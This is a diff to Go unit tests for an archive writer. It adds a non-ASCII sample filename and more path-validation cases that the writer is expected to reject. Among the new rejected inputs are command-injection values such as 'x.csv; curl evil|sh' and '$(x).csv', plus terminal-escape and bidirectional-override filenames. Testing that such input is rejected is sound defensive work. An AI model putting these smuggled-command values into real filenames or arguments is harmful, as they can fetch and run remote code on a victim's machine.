@@ -41,10 +41,10 @@ func sample(records int) whole {
 		w.records = append(w.records, append([]byte(fmt.Sprintf("record %d ", i)), noise(r.IntN(60))...))
 	}
 	w.header.Last = 40 + uint64(records)
-	for name, b := range map[string][]byte{"readings.csv": []byte(strings.Repeat("1,101,202611220242,24.5,61\n", 40)), "history/empty": {}, "history/noise": noise(200)} {
+	for name, b := range map[string][]byte{"readings.csv": []byte(strings.Repeat("1,101,202611220242,24.5,61\n", 40)), "history/empty": {}, "history/noise": noise(200), "año (2) O'Brien.csv": noise(3)} {
 		w.files[name] = b
 	}
-	w.order = []string{"readings.csv", "history/empty", "history/noise"}
+	w.order = []string{"readings.csv", "año (2) O'Brien.csv", "history/empty", "history/noise"}
 	return w
 }
 
@@ -251,6 +251,7 @@ func TestWriterRefuses(t *testing.T) {
 		func(h *Header) { h.Snapshots = h.Snapshots[:2] },
 		func(h *Header) { h.Snapshots[1].Pos = 38 }, func(h *Header) { h.Snapshots[2].Pos = 100 }, func(h *Header) { h.Snapshots[0].Size = -1 },
 		func(h *Header) { h.CSV = "../x" }, func(h *Header) { h.CSV = "a/b" },
+		func(h *Header) { h.CSV = "x.csv; curl evil|sh" }, func(h *Header) { h.CSV = "x\x1b[2J.csv" },
 	} {
 		h := good.header
 		h.Snapshots = append([]Snapshot(nil), h.Snapshots...)
@@ -270,7 +271,7 @@ func TestWriterRefuses(t *testing.T) {
 			t.Errorf("%s was taken", name)
 		}
 	}
-	for _, p := range []string{"", ".", "..", "../a", "/a", "a/../b", "a//b", `a\b`, "c:a", "a\x00", strings.Repeat("a", maxPath+1)} {
+	for _, p := range []string{"", ".", "..", "../a", "/a", "a/../b", "a//b", `a\b`, "c:a", "a\x00", "a\x1b[2J.csv", "a\n.csv", "a\u202e.csv", "a\xff", "-a", "x.csv; curl evil|sh", "$(x).csv", "`x`", strings.Repeat("a", maxPath+1)} {
 		h := good.header
 		h.Snapshots, h.Genesis = nil, h.First
 		w, err := NewWriter(io.Discard, h)
